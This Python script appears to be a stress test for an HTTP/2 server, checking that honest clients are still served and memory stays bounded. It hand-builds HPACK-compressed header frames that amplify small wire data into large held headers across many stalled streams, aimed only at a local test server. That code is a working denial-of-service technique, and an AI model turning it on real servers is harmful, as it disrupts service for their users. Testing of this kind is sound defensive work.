#!/usr/bin/env -S python3 -B
"""Many large heads for little: requests over HTTP/2 whose bodies never come, from one address.

A head of 28 KB is 50 bytes on the wire once HPACK's table has its value. On each connection as many are opened as may be, while honest
clients ask from the same address and from another (127.0.0.2): every answer is right, and memory stays below what one address may
hold of the budget for input, and a little."""

import resource
import socket
import threading
import time

import edge
from honest import Honest

HELLO = 'return function() return "hello" end\n'
HEADERS, SETTINGS = 1, 4
END_HEADERS, ACKNOWLEDGEMENT = 4, 1
VALUE_BYTES, REPEATS = 3900, 7
STREAMS = 100
# A quarter of 256 MB, what a connection may hold uncounted, and the process.
MAXIMUM_RSS_KIB = 200 * 1024
SECONDS_AFTER = 3


def options(parser):
    parser.add_argument("--connections", type=int, default=400)


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def text(value):
    """A string literal of HPACK (RFC 7541, 5.2), not compressed."""
    data = value.encode()
    if len(data) < 127:
        return bytes([len(data)]) + data
    rest, length = len(data) - 127, [127]
    while rest >= 128:
        length.append(rest & 127 | 128)
        rest >>= 7
    return bytes([*length, rest]) + data


def heads():
    """The frames of a client that opens STREAMS requests: the first puts a value into HPACK's table, all refer to it."""
    fields = ((":method", "POST"), (":scheme", "http"), (":path", "/hello"), (":authority", "h"))
    start = b"".join(b"\x00" + text(name) + text(value) for name, value in fields)
    # 0x40: a literal for the table; 0xbe: the table's newest entry.
    first = start + b"\x40" + text("x") + text("v" * VALUE_BYTES) + b"\xbe" * (REPEATS - 1)
    others = start + b"\xbe" * REPEATS
    frames = [frame(SETTINGS, 0, 0, b""), frame(SETTINGS, ACKNOWLEDGEMENT, 0, b""), frame(HEADERS, END_HEADERS, 1, first)]
    frames += [frame(HEADERS, END_HEADERS, 2 * index + 1, others) for index in range(1, STREAMS)]
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"".join(frames)


def attack(server, connections):
    """Returns the open connections and the most RSS that was seen."""
    data, open_ones, peak = heads(), [], 0
    for _ in range(connections):
        client = socket.create_connection(("127.0.0.1", server.port))
        client.sendall(data)
        open_ones.append(client)
        peak = max(peak, server.rss_kib())
    deadline = time.monotonic() + SECONDS_AFTER
    while time.monotonic() < deadline:
        peak = max(peak, server.rss_kib())
        time.sleep(0.05)
    return open_ones, peak


def main():
    arguments = edge.parse_arguments(__doc__, options)
    files, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, max(files, arguments.connections + 100)), most))
    with edge.Workspace({"hello": HELLO}) as workspace, workspace.serve(arguments.edgehost) as server:
        before, over = server.rss_kib(), threading.Event()
        honest = [Honest(server.port, address, over) for address in ("127.0.0.1", "127.0.0.2")]
        for client in honest:
            client.start()
        open_ones, peak = attack(server, arguments.connections)
        over.set()
        for client in [*honest]:
            client.join()
        for client in open_ones:
            client.close()
        code = server.stop()
    held = arguments.connections * STREAMS * VALUE_BYTES * REPEATS >> 10
    print(f"{arguments.connections} connections of {STREAMS} heads, {held} KiB in all: RSS {before} KiB before, {peak} KiB at most, exit {code}")
    for client in honest:
        print(f"  honest from {client.address}: {client.report()}", flush=True)
    good = all(client.times and not client.wrong for client in honest)
    edge.conclude(good and peak < MAXIMUM_RSS_KIB and code == 0,
                  f"every honest answer is right, and RSS stays below {MAXIMUM_RSS_KIB} KiB")  # fmt: skip


main()
